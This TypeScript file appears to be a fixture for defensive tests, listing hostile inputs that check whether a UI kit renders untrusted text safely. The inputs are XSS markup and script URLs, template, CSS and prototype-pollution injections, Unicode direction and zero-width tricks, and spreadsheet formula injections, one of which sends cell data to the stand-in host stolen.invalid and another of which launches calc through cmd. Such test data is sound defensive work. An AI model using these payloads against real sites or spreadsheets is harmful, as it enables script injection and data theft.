/** What somebody may write where a text is due. Each calls `pwned()` where it runs, or asks for /stolen where it is fetched. */

export interface HostileText {
  readonly name: string;
  readonly text: string;
}

export const HOSTILE_TEXTS: readonly HostileText[] = [
  { name: 'markup', text: '<img src=/stolen/img onerror=pwned()><script>pwned()</script>' },
  { name: 'out of an attribute', text: `"'><svg/onload=pwned()><a href=javascript:pwned()>x</a>` },
  { name: 'out of raw text', text: '</style></title></textarea></script><iframe srcdoc="<script>parent.pwned()</script>">' },
  { name: 'templates', text: '${pwned()} {{constructor.constructor("pwned()")()}} <%= pwned() %> lit$0000$ <!--?lit$0000$-->' },
  { name: 'a script URL', text: 'javascript:pwned()//' },
  { name: 'a script URL in disguise', text: '\u0001 jAva\tscri\npt:pwned()' },
  { name: 'a data URL', text: 'data:text/html,<script>parent.pwned()</script>' },
  { name: 'another host', text: '//stolen.invalid/x.json' },
  { name: 'a style', text: 'x;background:url(/stolen/style);--zb-accent:url(/stolen/var);width:expression(pwned())' },
  { name: 'turned direction', text: '甲\u202e178\u2066\u2067\u202d\u200f个\u061c' },
  { name: 'zero width', text: '\u200b\u200d\ufeff\u2060人\u200b次\u00ad' },
  { name: 'piled marks', text: `站${'\u0351\u035b\u0300'.repeat(120)}` },
  { name: 'half a character', text: '\ud83d站\udc00' },
  { name: 'control characters', text: '\u0000\u0007\u001b[31m\u007f\u0085\u2028\ufffe站' },
  { name: 'a formula', text: '=HYPERLINK("//stolen.invalid/?"&A1,"pwned")' },
  { name: 'a formula behind a space', text: "\t@SUM(1+1)*cmd|' /C calc'!A0\r\n=1+1" },
  { name: 'a name of the language', text: '__proto__' },
  { name: 'another of them', text: 'constructor' },
  { name: 'and another', text: 'toString' },
  { name: 'an expression of Vega', text: 'datum[\'value\']; [modify] \\[0\\] #a.b {"signal":"pwned()"}' },
  { name: 'a word without end', text: '站'.repeat(20_000) },
];

/** All of it at once, for a quick look at every field. */
export const POLYGLOT: HostileText = {
  name: 'all at once',
  text: `=cmd|'"><img src=/stolen/img onerror=pwned()><script>pwned()</script>\${pwned()}{{pwned()}}\u202ejavascript:pwned()\u0000\u200b__proto__</style></script>`,
};

/** Marks that turn the order of the signs around them, a figure's digits among them. They carry nothing: the kit leaves them out. */
export const MARKS = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g;
